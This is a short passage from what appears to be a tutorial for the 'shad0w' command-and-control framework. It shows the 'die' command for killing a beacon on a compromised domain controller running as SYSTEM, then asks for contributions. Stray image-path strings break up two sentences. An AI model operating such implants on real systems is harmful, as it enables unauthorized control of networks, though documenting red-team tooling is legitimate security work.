Finally when its time to end the life of a beacon it can be done with the die command. This will warn you, then when you provide the -y command thebeacon will be killed.

shad0w(SYSTEM@DC01) ≫ die
shad0w(SYSTEM@DC01) ≫ die -y


The Future

I am working on implementing a team server and GUI clients along with some cool new features. If youwant to help development feel free to make pull requests on the github or DM me on my twitter @_batsec_ if you want to know where I could need some help.